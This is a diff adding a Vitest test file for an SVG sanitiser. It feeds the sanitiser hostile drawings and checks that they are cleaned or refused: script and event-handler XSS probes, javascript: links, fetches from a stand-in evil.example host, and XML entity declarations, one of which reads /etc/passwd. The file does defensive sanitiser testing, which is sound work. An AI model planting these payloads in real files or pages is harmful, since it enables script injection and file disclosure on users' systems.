@@ -1,0 +1,81 @@
+import { expect, test } from 'vitest'
+import { cleanSvg } from '../../../../../scripts/site/pictures/cleanSvg.ts'
+
+const drawing = (body: string, attributes = '') =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" viewBox="0 0 40 40" ${attributes}>${body}<path fill="#a00" d="M0 0h40v40z"/></svg>`
+
+test.each([
+  ['a script', drawing('<script>alert(1)</script>')],
+  ['a script by reference', drawing('<script xlink:href="https://evil.example/x.js"/>')],
+  ['a script in CDATA', drawing('<script><![CDATA[alert(1)]]></script>')],
+  [
+    'a script under a prefix',
+    drawing('<s:script xmlns:s="http://www.w3.org/2000/svg" href="https://evil.example/x.js"/>'),
+  ],
+  ['an event handler on the root', drawing('', 'onload="alert(1)"')],
+  ['an event handler on a shape', drawing('<circle r="9" onmouseover="alert(1)"/>')],
+  ['an event handler in capitals', drawing('<circle r="9" ONCLICK="alert(1)"/>')],
+  [
+    'foreign content',
+    drawing('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>'),
+  ],
+  ['a frame', drawing('<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>')],
+  ['a link that runs', drawing('<a xlink:href="javascript:alert(1)"><circle r="9"/></a>')],
+  ['a link that runs, disguised', drawing('<a href="java&#10;script:alert(1)"><circle r="9"/></a>')],
+  ['a picture from elsewhere', drawing('<image href="https://evil.example/x.png" width="9" height="9"/>')],
+  [
+    'a web page as a picture',
+    drawing('<image href="data:text/html,&lt;script>alert(1)&lt;/script>" width="9" height="9"/>'),
+  ],
+  [
+    'a drawing as a picture',
+    drawing('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>'),
+  ],
+  ['a shape from elsewhere', drawing('<use href="https://evil.example/x.svg#a"/>')],
+  [
+    'an animation of a link',
+    drawing('<a><set attributeName="href" to="javascript:alert(1)"/><circle r="9"/></a>'),
+  ],
+  [
+    'an animation',
+    drawing('<circle r="9"><animate attributeName="href" values="javascript:alert(1)"/></circle>'),
+  ],
+  ['a style sheet from elsewhere', drawing('<style>@import url(https://evil.example/x.css);</style>')],
+  ['a style that fetches', drawing('<circle r="9" style="fill:url(https://evil.example/x#a)"/>')],
+  ['a fill that fetches', drawing('<circle r="9" fill="url(https://evil.example/x#a)"/>')],
+  ['a fill that fetches, disguised', drawing('<circle r="9" fill="u\\72l(https://evil.example/x)"/>')],
+  [
+    'a filter that fetches',
+    drawing(
+      '<filter id="f"><feImage href="https://evil.example/x.png"/></filter><circle r="9" filter="url(#f)"/>',
+    ),
+  ],
+  ['an instruction', `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${drawing('')}`],
+])('%s is gone from a drawing, and the drawing is still there', (_, svg) => {
+  const clean = cleanSvg(svg)
+  expect(clean).not.toMatch(
+    /script|alert|evil|\son\w+=|foreign|iframe|<(?:a|set|style|animate)\b|data:|import|\\/i,
+  )
+  expect(clean).toMatch(/^<svg .*viewBox="0 0 40 40".*<path fill="#a00" d="[^"]+"\/><\/svg>$/)
+})
+
+test.each([
+  ['entities that blow up', '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'],
+  ['entities that read files', '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'],
+  ['entities by parameter', '<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>'],
+])('a drawing that declares %s is refused', (_, declaration) => {
+  expect(() => cleanSvg(declaration + drawing('<text>&a;</text>'))).toThrow('entities')
+})
+
+test('what a drawing is made of stays: sizes, names of its own, reuse, gradients, masks and the colours of its style sheet', () => {
+  const clean = cleanSvg(
+    drawing(
+      '<style>.b{fill:#00a}</style><defs><linearGradient id="g"><stop offset="0" stop-color="#0a0"/><stop offset="1"/></linearGradient><circle id="c" r="4"/><mask id="m"><circle r="9" fill="#fff"/></mask></defs><use href="#c" x="3"/><use xlink:href="#c" x="9"/><circle class="b" r="3"/><g mask="url(#m)"><circle r="8" fill="url(#g)"/></g>',
+    ),
+  )
+  expect(clean).toMatch(/width="40" height="40"/)
+  expect(clean.match(/<use\b[^>]*href="#\w+"/g)).toHaveLength(2)
+  expect(clean).toMatch(/<linearGradient/)
+  expect(clean).toMatch(/fill="#00a"/)
+  expect(clean).toMatch(/mask="url\(#\w+\)"/)
+})
